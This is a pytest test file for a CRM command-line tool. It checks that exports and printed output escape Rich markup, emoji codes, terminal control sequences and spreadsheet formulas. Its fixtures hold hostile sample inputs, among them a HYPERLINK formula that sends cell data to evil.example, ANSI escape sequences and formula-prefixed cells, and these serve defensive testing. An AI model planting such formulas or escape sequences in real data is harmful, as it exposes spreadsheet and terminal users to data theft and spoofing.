"""What the CLI prints and exports is data: no Rich markup, no emoji codes, no terminal control
sequences, no spreadsheet formulas, whatever customers or paths contain."""

from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path
from typing import Any

import pytest

from crm_crew.cli.csv_cells import spreadsheet_safe
from crm_crew.cli.terminal import terminal_safe
from tests.e2e.clihelp import CONFIG, cli

CONTACTS = (
    "email,first_name,last_name,company,phone\n"
    "eve.stone@harbor-logistics.com,[/b]Eve,[bold red]Stone[/],Harbor :100: Logistics,+1 555 0100\n"
    "li.wei@pinecrest.io,Li,\x1b[2JWei\x07,Pinecrest [link=https://evil.example]IO[/link],\n"
)


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    home = tmp_path_factory.mktemp("escaping") / "state"
    people, more = home.parent / "people.csv", home.parent / "more.csv"
    people.write_text(CONTACTS, encoding="utf-8")
    more.write_text("email,first_name,company\nnoor.haddad@cedarline.ae,Noor,Cedarline\n", encoding="utf-8")
    formula = '=HYPERLINK("https://evil.example/?d="&A1,"open")'
    for file, actor in ((people, formula), (more, "@SUM(1+1)")):
        result = cli("crm", "import", str(file), "--as", actor, home=home)
        assert result.code == 0, result.err
    return home


def test_crm_export_prints_customer_text_as_text(home: Path) -> None:
    result = cli("crm", "export", home=home)
    assert result.code == 0, result.err
    flat = " ".join(result.out.split())
    for shown in ("[/b]Eve", "[bold red]Stone[/]", "Harbor :100: Logistics", "\\x1b[2JWei\\x07",
                  "[link=https://evil.example]IO[/link]"):
        assert shown in flat.replace("│ ", "").replace(" │", ""), shown
    assert "\x1b" not in result.out and "\x07" not in result.out and "💯" not in result.out


def test_validate_prints_paths_and_positions_literally(tmp_path: Path) -> None:
    folder = tmp_path / "cfg [/b] :smile:"
    shutil.copytree(CONFIG, folder, ignore=shutil.ignore_patterns("samples"))
    (folder / "crm-crew.yaml").write_text("# filler\n" * 99 + "runner: {concurrency: 0}\n", encoding="utf-8")
    result = cli("validate", "--config", str(folder), home=tmp_path / "state")
    assert result.code == 1
    assert result.err.splitlines()[0] == f"{folder}/crm-crew.yaml:100:23: runner.concurrency: must be at least 1, got 0"
    assert "💯" not in result.err and "😄" not in result.err


def _csv(text: str) -> list[dict[str, Any]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_audit_csv_export_neutralizes_formulas(home: Path, tmp_path: Path) -> None:
    rows = _csv(cli("audit", "export", "--format", "csv", home=home).out)
    actors = {row["actor"] for row in rows}
    assert actors == {'\'=HYPERLINK("https://evil.example/?d="&A1,"open")', "'@SUM(1+1)"}
    raw = [json.loads(line)["actor"] for line in cli("audit", "export", home=home).out.splitlines()]
    assert set(raw) == {'=HYPERLINK("https://evil.example/?d="&A1,"open")', "@SUM(1+1)"}   # JSON Lines: as is


@pytest.mark.parametrize(("value", "cell"), [
    ("=1+1", "'=1+1"), ("+49 30 1234567", "'+49 30 1234567"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=cmd", "'\t=cmd"), ("\r=cmd", "'\r=cmd"),
    ("a=b", "a=b"), ("", ""), ("plain text", "plain text"), (5, 5), (-5, -5), (None, None),
])
def test_spreadsheet_safe_cells(value: Any, cell: Any) -> None:
    assert spreadsheet_safe(value) == cell


@pytest.mark.parametrize(("value", "text"), [
    ("\x1b[31mred\x1b[0m", "\\x1b[31mred\\x1b[0m"), ("bell\x07", "bell\\x07"), ("two\nlines\tok", "two\nlines\tok"),
    ({"k": "v"}, '{"k": "v"}'), (None, ""),
])
def test_terminal_safe_text(value: Any, text: str) -> None:
    assert terminal_safe(value) == text
